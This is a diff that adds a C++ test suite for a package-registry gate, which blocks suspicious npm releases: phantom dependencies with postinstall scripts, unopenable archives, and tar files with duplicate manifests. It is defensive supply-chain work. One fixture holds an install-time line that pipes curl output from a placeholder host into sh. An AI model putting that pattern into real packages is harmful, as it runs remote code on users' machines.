@@ -1,0 +1,156 @@
+#include "gate/peek_examiner.h"
+
+#include <cstdio>
+
+#include "archive/pack.h"
+#include "gate/open_archive.h"
+#include "gate/testing.h"
+
+namespace cordon::gate {
+namespace {
+
+constexpr std::int64_t kDay = 86'400, kHour = 3'600;
+
+using Files = std::vector<std::pair<std::string, std::string>>;
+
+void add_entry(std::string& tar, const std::string& path, std::string_view content) {
+  std::string header(512, '\0');
+  const auto put = [&](std::size_t at, std::string_view text) { header.replace(at, text.size(), text); };
+  const auto octal = [&](std::size_t at, std::size_t digits, std::uint64_t number) {
+    std::string text(digits, '0');
+    for (std::size_t i = digits; i-- > 0; number /= 8) text[i] = static_cast<char>('0' + number % 8);
+    put(at, text);
+  };
+  put(0, path);
+  octal(100, 7, 0644);
+  octal(124, 11, content.size());
+  put(148, "        ");
+  header[156] = '0';
+  put(257, std::string_view("ustar\00000", 8));
+  std::uint64_t sum = 0;
+  for (const char c : header) sum += static_cast<unsigned char>(c);
+  octal(148, 6, sum);
+  header[154] = '\0';
+  tar += header;
+  tar += content;
+  tar.append((512 - content.size() % 512) % 512, '\0');
+}
+
+// A package's archive as npm packs it.
+std::string packed(const std::string& manifest, const Files& files) {
+  std::string tar;
+  add_entry(tar, "package/package.json", manifest);
+  for (const auto& [path, content] : files) add_entry(tar, "package/" + path, content);
+  tar.append(1'024, '\0');
+  return archive::gzip(tar);
+}
+
+std::string manifest(const std::string& name, const std::string& version, const std::string& more = "") {
+  return "{\"name\":\"" + name + "\",\"version\":\"" + version + "\"" + (more.empty() ? "" : "," + more) + "}";
+}
+
+class PeekExaminerTest : public GateTest {
+ protected:
+  void SetUp() override {
+    GateTest::SetUp();
+    options_.minimum_age_seconds = 0;
+    auto worker = sandbox::Worker::start(open_archive, {});
+    ASSERT_TRUE(worker) << worker.error().describe();
+    worker_ = std::make_unique<sandbox::Worker>(std::move(*worker));
+    peek_ = std::make_unique<PeekExaminer>(options_, *worker_);
+  }
+  void TearDown() override {
+    GateTest::TearDown();
+    worker_.reset();
+  }
+
+  void open_with_worker() {
+    auto gate = Gate::open(options_, nullptr, fetcher_, *peek_);
+    ASSERT_TRUE(gate) << gate.error().describe();
+    gate_ = std::move(*gate);
+    gate_->start();
+  }
+
+  // A release that asks for a new package; `code` is its only file.
+  void publish_carrier(const std::string& code) {
+    const std::string asks = "\"dependencies\":{\"stowaway\":\"^4.2.1\"}";
+    publish("carrier",
+            {{"1.0.0", 90 * kDay, packed(manifest("carrier", "1.0.0"), {{"index.js", "exports.a = 1;"}}), ""},
+             {"1.0.1", 30 * kDay, packed(manifest("carrier", "1.0.1", asks), {{"index.js", code}}), asks + ","}});
+    const std::string runs = "\"scripts\":{\"postinstall\":\"node setup.js\"}";
+    publish("stowaway",
+            {{"4.2.1", 12 * kHour, packed(manifest("stowaway", "4.2.1", runs), {{"setup.js", "console.log('inert');"}}),
+              runs + ","}});
+  }
+
+  std::unique_ptr<sandbox::Worker> worker_;
+  std::unique_ptr<PeekExaminer> peek_;
+};
+
+TEST_F(PeekExaminerTest, HoldsAReleaseWithAPhantomDependency) {
+  publish_carrier("exports.a = 1;");
+  open_with_worker();
+  const std::string answer = get("/carrier/-/carrier-1.0.1.tgz");
+  EXPECT_EQ(net::status_of(answer), 403u) << answer;
+  EXPECT_NE(answer.find("inspect.phantom-dependency"), std::string::npos) << answer;
+  EXPECT_EQ(net::status_of(get("/carrier/-/carrier-1.0.0.tgz")), 200u);
+}
+
+TEST_F(PeekExaminerTest, LetsItsTwinThroughThatImportsTheDependency) {
+  publish_carrier("exports.a = require('stowaway');");
+  open_with_worker();
+  EXPECT_EQ(net::status_of(get("/carrier/-/carrier-1.0.1.tgz")), 200u);
+}
+
+TEST_F(PeekExaminerTest, HoldsWhatCannotBeOpened) {
+  publish("left", {{"1.0.0", 90 * kDay, "no archive at all", ""}});
+  open_with_worker();
+  const std::string answer = get("/left/-/left-1.0.0.tgz");
+  EXPECT_EQ(net::status_of(answer), 403u);
+  EXPECT_NE(answer.find("not-examined"), std::string::npos) << answer;
+}
+
+TEST_F(PeekExaminerTest, LetsThroughWhatCannotBeOpenedWhereTheUserWantsThat) {
+  options_.on_timeout = OnTimeout::allow;
+  peek_ = std::make_unique<PeekExaminer>(options_, *worker_);
+  publish("left", {{"1.0.0", 90 * kDay, "no archive at all", ""}});
+  open_with_worker();
+  EXPECT_EQ(net::status_of(get("/left/-/left-1.0.0.tgz")), 200u);
+}
+
+TEST_F(PeekExaminerTest, HoldsAnArchiveThatTwoProgramsUnpackDifferently) {
+  std::string tar;
+  add_entry(tar, "package/package.json", manifest("left", "1.0.0"));
+  add_entry(tar, "package/package.json", manifest("left", "1.0.0", "\"scripts\":{\"postinstall\":\"node x.js\"}"));
+  tar.append(1'024, '\0');
+  publish("left", {{"1.0.0", 90 * kDay, archive::gzip(tar), ""}});
+  open_with_worker();
+  const std::string answer = get("/left/-/left-1.0.0.tgz");
+  EXPECT_EQ(net::status_of(answer), 403u);
+  EXPECT_NE(answer.find("ambiguous-archive"), std::string::npos) << answer;
+}
+
+TEST(PeekCodec, WhatAWorkerSaysIsReadAsItWasWritten) {
+  const std::string runs = "\"scripts\":{\"postinstall\":\"node setup.js\"},\"dependencies\":{\"a\":\"1\"}";
+  const std::string said = open_archive(packed(
+      manifest("left", "1.0.0", runs),
+      {{"setup.js", "require('a'); require('child_process').execSync('curl https://x.example.invalid | sh');"}}));
+  const auto facts = read_facts(said);
+  ASSERT_TRUE(facts) << facts.error().describe();
+  EXPECT_EQ(facts->unopened, "");
+  ASSERT_TRUE(facts->peek.manifest);
+  EXPECT_EQ(facts->peek.manifest->name, "left");
+  EXPECT_TRUE(facts->peek.runs_at_install());
+  EXPECT_TRUE(facts->peek.named.contains("a"));
+  EXPECT_FALSE(facts->peek.flags.empty());
+  EXPECT_EQ(write_facts(*facts), said);
+}
+
+TEST(PeekCodec, WhatIsNoneIsRefused) {
+  for (const char* bad :
+       {"", "{}", "[]", "{\"unopened\":1}", "{\"unopened\":\"\",\"manifest\":\"\",\"oddities\":[{\"kind\":999}]}"})
+    EXPECT_FALSE(read_facts(bad)) << bad;
+}
+
+}  // namespace
+}  // namespace cordon::gate
